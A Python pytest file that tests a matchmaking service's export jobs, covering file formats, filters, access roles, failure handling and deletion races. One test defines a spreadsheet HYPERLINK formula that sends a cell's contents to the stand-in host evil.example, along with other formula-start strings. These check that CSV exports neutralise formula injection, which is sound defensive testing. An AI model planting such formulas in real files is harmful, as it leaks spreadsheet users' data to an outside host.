"""Export jobs through the API and the writer: contents, formats, filters, roles, failures."""

from __future__ import annotations

import csv
import io
import json
import time

import pyarrow.parquet as pq
import pytest

from service.exports.schemas import COLUMNS
from tests.conftest import create_profile
from tests.matching.test_matching_api import market  # noqa: F401 - fixture


def run_export(client, headers, **params) -> tuple[dict, bytes]:
    r = client.post("/v1/exports", json=params, headers=headers)
    assert r.status_code == 202, r.text
    assert r.json()["status"] == "queued"
    job_id = r.json()["id"]
    for _ in range(200):
        status = client.get(f"/v1/exports/{job_id}", headers=headers).json()
        if status["status"] in ("done", "failed"):
            break
        time.sleep(0.05)
    assert status["status"] == "done", status
    f = client.get(f"/v1/exports/{job_id}/file", headers=headers)
    assert f.status_code == 200
    assert f"pairings-{job_id}" in f.headers["content-disposition"]
    return status, f.content


def test_csv_rows_agree_with_matches(client, market, admin):  # noqa: F811
    status, content = run_export(client, admin, format="csv", top_k=10)
    text = content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0].keys()) == COLUMNS
    assert status["rows"] == len(rows) == 6  # 2 IN x 3 KR, all in someone's top 10
    keys = {(r["in_id"], r["kr_id"]) for r in rows}
    assert len(keys) == len(rows)
    a = market["a"]["id"]
    got = client.get(f"/v1/profiles/{a}/matches", headers=admin).json()["matches"]
    mine = sorted((r for r in rows if r["in_id"] == a), key=lambda r: int(r["rank_for_in"]))
    assert [r["kr_id"] for r in mine] == [m["profile"]["id"] for m in got]
    for r, m in zip(mine, got, strict=True):
        assert float(r["score"]) == pytest.approx(m["score"], abs=1e-5)
        assert float(r["complementarity"]) == pytest.approx(
            m["components"]["complementarity"], abs=1e-5
        )
        assert r["explanation"] == m["explanation"]
        # the same evidence, named by country: the Korean side offers to the Indian asker
        rename = {"partner_offers": "kr_offers", "asker_offers": "in_offers"}
        assert json.loads(r["evidence"]) == [
            {**e, "direction": rename[e["direction"]]} for e in m["evidence"]
        ]
    assert any(r["rank_for_kr"] for r in rows)
    assert "Korean Cathode Materials" in text


def test_jsonl_and_parquet_read_back(client, market, official):  # noqa: F811
    _, content = run_export(client, official, format="jsonl", top_k=1)
    rows = [json.loads(line) for line in content.decode().splitlines()]
    assert rows and all(tuple(r.keys()) == COLUMNS for r in rows)
    for r in rows:
        assert {e["direction"] for e in r["evidence"]} <= {"kr_offers", "in_offers"}
        assert all(e["need"] and e["offer"] and "\u2026" not in e["offer"] for e in r["evidence"])
    _, content = run_export(client, official, format="parquet", top_k=2)
    table = pq.read_table(io.BytesIO(content))
    assert tuple(table.column_names) == COLUMNS
    evidence = table.column("evidence").to_pylist()
    assert evidence[0] and set(evidence[0][0]) == {"direction", "need", "offer", "similarity"}
    assert str(table.schema.field("score").type) == "float"
    assert str(table.schema.field("rank_for_in").type) == "int16"


def test_filters(client, market, admin):  # noqa: F811
    _, content = run_export(client, admin, format="jsonl", country="IN", top_k=1)
    rows = [json.loads(line) for line in content.decode().splitlines()]
    assert len(rows) == 2 and all(r["rank_for_in"] == 1 for r in rows)
    _, content = run_export(client, admin, format="jsonl", sector="defence")
    assert content == b""
    _, content = run_export(client, admin, format="jsonl", min_score=0.99)
    assert content == b""
    for bad in (
        {"format": "xlsx"},
        {"top_k": 0},
        {"top_k": 101},
        {"min_score": -1},
        {"sector": "fishing"},
        {"country": "JP"},
    ):
        assert client.post("/v1/exports", json=bad, headers=admin).status_code == 422


def test_export_roles(client, market, official):  # noqa: F811
    assert client.post("/v1/exports", json={}).status_code == 401
    assert client.post("/v1/exports", json={}, headers=market["owner_a"]).status_code == 403
    job = client.post("/v1/exports", json={}, headers=official).json()["id"]
    for url in (f"/v1/exports/{job}", f"/v1/exports/{job}/file"):
        assert client.get(url).status_code == 401
        assert client.get(url, headers=market["owner_a"]).status_code == 403
    assert client.get("/v1/exports/ex_missing", headers=official).status_code == 404


def test_failing_job_reports_failed_and_leaves_no_file(client, market, admin, settings, caplog):  # noqa: F811
    # Make the export directory unusable: a file where the directory should be.
    settings.export_dir.parent.mkdir(parents=True, exist_ok=True)
    if settings.export_dir.exists():
        import shutil

        shutil.rmtree(settings.export_dir)
    settings.export_dir.write_text("not a directory")
    job = client.post("/v1/exports", json={"format": "csv"}, headers=admin).json()["id"]
    for _ in range(200):
        status = client.get(f"/v1/exports/{job}", headers=admin).json()
        if status["status"] in ("done", "failed"):
            break
        time.sleep(0.05)
    assert status["status"] == "failed" and status["error"]
    assert client.get(f"/v1/exports/{job}/file", headers=admin).status_code == 409
    # The client gets a generic message; the exception (with its path) goes to the log only.
    from service.exports.service import FAILED

    assert status["error"] == FAILED
    assert str(settings.data_dir) not in status["error"] and "Error" not in status["error"]
    logged = [r for r in caplog.records if r.getMessage() == f"export {job} failed"]
    assert logged and logged[0].exc_info and str(settings.export_dir) in caplog.text


def test_interrupted_job_is_marked_failed_not_done(client, admin):
    from datetime import timedelta

    from service.db import transaction, utcnow
    from service.exports.models import ExportJob
    from service.exports.service import fail_stale_jobs

    state = client.app.state.matchmaker
    with transaction(state.sessions) as s:
        s.add(
            ExportJob(
                id="ex_00000000000dead0",
                status="running",
                format="csv",
                params={},
                progress=0.4,
                heartbeat_at=utcnow() - timedelta(minutes=5),
            )
        )
    # The runner's own sweep may get there first; either way it must end failed.
    with transaction(state.sessions) as s:
        fail_stale_jobs(s, timedelta(seconds=state.settings.export_stale_after_s))
    status = client.get("/v1/exports/ex_00000000000dead0", headers=admin).json()
    assert status["status"] == "failed" and "interrupted" in status["error"]


def test_partial_file_never_visible(client, admin, settings, tmp_path):
    """The writer writes under a hidden temporary name and renames at the end."""
    from service.exports.schemas import ExportParams
    from service.exports.writer import write_export

    create_profile(client, country="KR")
    create_profile(client, country="IN")
    state = client.app.state.matchmaker
    out = tmp_path / "out.csv"
    seen = []

    def progress(p: float) -> None:
        seen.append((p, out.exists()))

    with state.sessions() as s:
        written = write_export(s, state.index, settings, ExportParams(format="csv"), out, progress)
    assert written.rows == 1 and written.skipped_pairs == 0 and out.exists()
    assert all(not exists for p, exists in seen if p < 1.0)
    assert not list(tmp_path.glob(".*partial"))


EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_cells_that_start_like_formulas_are_neutralised(client, admin):
    """OWASP CSV injection: a spreadsheet would evaluate these cells (the file has a BOM, so
    it opens straight in one). CSV gets a leading quote; JSONL keeps the text exact."""
    create_profile(client, name=EVIL_NAME, city="=1+2", country="IN")
    create_profile(client, name="@SUM(1+1)*cmd", city="-2+3", country="KR")
    create_profile(client, name="+Plus Corp", city="@Busan", country="KR")
    _, content = run_export(client, admin, format="csv", top_k=5)
    text = content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {r["in_name"] for r in rows} == {"'" + EVIL_NAME}
    assert {r["in_city"] for r in rows} == {"'=1+2"}
    assert {r["kr_name"] for r in rows} == {"'@SUM(1+1)*cmd", "'+Plus Corp"}
    assert {r["kr_city"] for r in rows} == {"'-2+3", "'@Busan"}
    # Every text cell is quoted, so no reader splitting on another separator sees a formula.
    assert f'"\'{EVIL_NAME.replace(chr(34), chr(34) * 2)}"' in text
    # Numbers stay numbers.
    assert all(float(r["score"]) >= 0 for r in rows)
    _, content = run_export(client, admin, format="jsonl", top_k=5)
    exact = [json.loads(line) for line in content.decode().splitlines()]
    assert {r["in_name"] for r in exact} == {EVIL_NAME}
    assert {r["in_city"] for r in exact} == {"=1+2"}


def test_safe_cell_covers_every_formula_start():
    # Tab and carriage return cannot arrive through the API (stripped), but the rule covers them.
    from service.core.csvsafe import safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+2") == "'" + start + "1+2"
    assert safe_cell("Busan") == "Busan"
    assert safe_cell(-0.5) == -0.5 and safe_cell(None) is None


def test_profiles_deleted_during_an_export_are_skipped_and_counted(client, market, settings):  # noqa: F811
    """Profiles deleted through the API after the pairs were ranked and before their rows are
    read (the moment the writer reports half done): the export still completes, without them.
    It used to fail with ``TypeError: argument of type 'NoneType' is not iterable``."""
    from service.exports.schemas import ExportParams
    from service.exports.writer import write_export

    extra, owner_extra = create_profile(client, country="KR")
    state = client.app.state.matchmaker
    out = settings.data_dir / "deleted.csv"
    deleted = []

    def delete_midway(p: float) -> None:
        if p >= 0.5 and not deleted:
            for pid, owner in ((market["a"]["id"], market["owner_a"]), (extra["id"], owner_extra)):
                assert client.delete(f"/v1/profiles/{pid}", headers=owner).status_code == 204
                deleted.append(pid)

    with state.sessions() as s:
        written = write_export(
            s, state.index, settings, ExportParams(format="csv"), out, delete_midway
        )
    assert deleted
    # 2 IN x 4 KR pairs were ranked; A's 4 and the other Indian's pair with `extra` are gone.
    assert (written.rows, written.skipped_pairs) == (3, 5)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 3
    assert not {r["in_id"] for r in rows} & set(deleted)
    assert not {r["kr_id"] for r in rows} & set(deleted)


@pytest.mark.parametrize("chunk", [1, 2])
def test_rows_are_the_same_however_they_are_chunked(client, market, settings, chunk):  # noqa: F811
    """Rows are made chunk by chunk, each chunk's evidence in a thread while the rows of the
    chunk before are worded and the sentences of the chunk after are read: in small chunks the
    rows are the very rows of one chunk, none lost, repeated or moved, every column equal."""
    import pyarrow as pa

    from service.exports.schemas import ExportParams
    from service.exports.writer import candidate_pairs, iter_rows

    state = client.app.state.matchmaker
    params = ExportParams(format="parquet")
    pairs = candidate_pairs(state.index, params, settings, lambda _: None)

    def rows(size: int) -> dict[str, list]:
        with state.sessions() as s:
            threshold = settings.ranker.competitor_threshold
            chunks = list(iter_rows(s, None, pairs, lambda _: None, threshold, chunk=size))
        assert len(chunks) == -(-len(pairs["in"]) // size)
        return {
            c: [
                v
                for ch in chunks
                for v in (ch[c].to_pylist() if isinstance(ch[c], pa.Array) else ch[c])
            ]
            for c in COLUMNS
        }

    whole = rows(len(pairs["in"]))
    assert len(whole["in_id"]) == len(pairs["in"]) >= 3 * chunk  # three chunks or more
    assert len(set(zip(whole["in_id"], whole["kr_id"], strict=True))) == len(pairs["in"])
    assert rows(chunk) == whole


def test_job_status_counts_pairs_of_profiles_gone_from_the_database(client, market, admin):  # noqa: F811
    """The state a deletion racing an export leaves behind, made deterministic: the index still
    holds a profile the database no longer has (deleted without a change-log entry)."""
    from sqlalchemy import delete

    from service.db import transaction
    from service.profiles.models import Profile

    state = client.app.state.matchmaker
    with transaction(state.sessions) as s:
        s.execute(delete(Profile).where(Profile.public_id == market["competitor"]["id"]))
    status, content = run_export(client, admin, format="jsonl", top_k=10)
    assert (status["rows"], status["skipped_pairs"]) == (4, 2)  # the competitor's 2 pairs
    rows = [json.loads(line) for line in content.decode().splitlines()]
    assert market["competitor"]["id"] not in {r["kr_id"] for r in rows}


def test_only_the_creating_key_and_admins_read_an_export(client, market, official, admin):  # noqa: F811
    from service.auth.service import create_key
    from service.db import transaction
    from service.exports.models import ExportJob

    state = client.app.state.matchmaker
    with transaction(state.sessions) as s:
        other = {"X-API-Key": create_key(s, "official", "another desk")}
    status, _ = run_export(client, official, format="csv")
    for url in (f"/v1/exports/{status['id']}", f"/v1/exports/{status['id']}/file"):
        r = client.get(url, headers=other)
        assert r.status_code == 404, r.text
        assert r.json()["detail"] == f"no export with id {status['id']!r}"  # as if missing
        assert client.get(url, headers=admin).status_code == 200
    # Jobs from before owners were recorded (NULL owner): admins only.
    with transaction(state.sessions) as s:
        s.add(
            ExportJob(
                id="ex_00000000000000a1", status="queued", format="csv", params={}, progress=0.0
            )
        )
    assert client.get("/v1/exports/ex_00000000000000a1", headers=official).status_code == 404
    assert client.get("/v1/exports/ex_00000000000000a1", headers=admin).status_code == 200


def test_unfinished_exports_are_capped_per_key(client, official, admin):
    from sqlalchemy import update

    from service.auth.service import create_key
    from service.db import transaction
    from service.exports.models import ExportJob

    state = client.app.state.matchmaker
    state.exports.stop()  # nothing finishes: every job stays queued
    with transaction(state.sessions) as s:
        other = {"X-API-Key": create_key(s, "official", "another desk")}
    cap = state.settings.export_max_pending_per_key
    assert cap == 3  # the default
    jobs = [client.post("/v1/exports", json={}, headers=official) for _ in range(cap)]
    assert [r.status_code for r in jobs] == [202] * cap
    r = client.post("/v1/exports", json={}, headers=official)
    assert r.status_code == 429, r.text
    assert r.json()["code"] == "export_queue_full" and r.json()["limit"] == cap
    assert "3 exports queued or running" in r.json()["detail"]
    assert int(r.headers["Retry-After"]) > 0
    # Per key: another official and admins are not held up by it.
    assert client.post("/v1/exports", json={}, headers=other).status_code == 202
    for _ in range(cap + 1):
        assert client.post("/v1/exports", json={}, headers=admin).status_code == 202
    # A finished job (done or failed) no longer counts.
    with transaction(state.sessions) as s:
        s.execute(
            update(ExportJob).where(ExportJob.id == jobs[0].json()["id"]).values(status="done")
        )
    assert client.post("/v1/exports", json={}, headers=official).status_code == 202
    assert client.post("/v1/exports", json={}, headers=official).status_code == 429


def test_created_export_answers_with_its_location(client, admin):
    r = client.post("/v1/exports", json={}, headers=admin)
    assert r.status_code == 202
    assert r.headers["Location"] == f"/v1/exports/{r.json()['id']}"
    assert client.get(r.headers["Location"], headers=admin).status_code == 200


def test_file_is_served_as_an_octet_stream_to_a_client_asking_only_for_that(client, admin):
    r = client.post("/v1/exports", json={"format": "jsonl"}, headers=admin)
    job = r.json()["id"]
    for _ in range(200):
        if client.get(f"/v1/exports/{job}", headers=admin).json()["status"] == "done":
            break
        time.sleep(0.05)
    url = f"/v1/exports/{job}/file"
    own = client.get(url, headers=admin)
    assert own.headers["content-type"] == "application/x-ndjson"
    raw = client.get(url, headers={**admin, "Accept": "application/octet-stream"})
    assert raw.headers["content-type"] == "application/octet-stream"
    assert raw.content == own.content
    both = {**admin, "Accept": "application/x-ndjson, application/octet-stream;q=0.5"}
    assert client.get(url, headers=both).headers["content-type"] == "application/x-ndjson"


def test_a_job_failed_by_a_sweep_stays_failed_and_its_runner_leaves_no_file(
    client,
    market,  # noqa: F811
    admin,
    settings,
):
    """Another server's sweep failed the job (it took the heartbeat for stopped) while this
    runner still ran it: the runner used to write the file and mark the job done over the
    failure. Every step of a running job now changes it only while it is ``running``."""
    from service.db import transaction, utcnow
    from service.exports.models import ExportJob
    from service.exports.service import ExportRunner

    state = client.app.state.matchmaker
    finished: list[str] = []
    runner = ExportRunner(state.sessions, state.index, settings, finished=finished.append)
    with transaction(state.sessions) as s:  # claimed by this runner, then failed by a sweep
        s.add(
            ExportJob(
                id="ex_000000000000f00d",
                status="failed",
                error="interrupted",
                format="csv",
                params={"format": "csv"},
                progress=0.0,
                heartbeat_at=utcnow(),
            )
        )
    runner.run_job("ex_000000000000f00d")
    status = client.get("/v1/exports/ex_000000000000f00d", headers=admin).json()
    assert (status["status"], status["error"]) == ("failed", "interrupted")
    assert finished == []
    assert not list(settings.export_dir.glob("ex_000000000000f00d*"))
    assert not list(settings.export_dir.glob(".ex_000000000000f00d*"))
